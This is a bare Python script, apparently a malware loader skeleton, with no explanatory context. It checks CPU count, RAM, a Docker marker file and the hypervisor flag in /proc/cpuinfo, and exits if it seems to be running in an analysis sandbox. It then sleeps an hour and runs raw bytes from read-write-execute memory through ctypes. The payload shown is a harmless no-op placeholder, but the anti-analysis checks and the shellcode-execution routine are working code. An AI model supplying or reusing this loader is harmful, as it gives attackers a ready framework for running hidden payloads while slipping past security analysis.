import os, sys, ctypes, time
def ram():
    return os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 1e9
if os.cpu_count() < 2 or ram() < 2 or os.path.exists("/.dockerenv"):
    sys.exit()
if "hypervisor" in open("/proc/cpuinfo").read():
    sys.exit()
time.sleep(3600)
b = bytes.fromhex("9090c3")
import mmap
m = mmap.mmap(-1, len(b), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(b)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
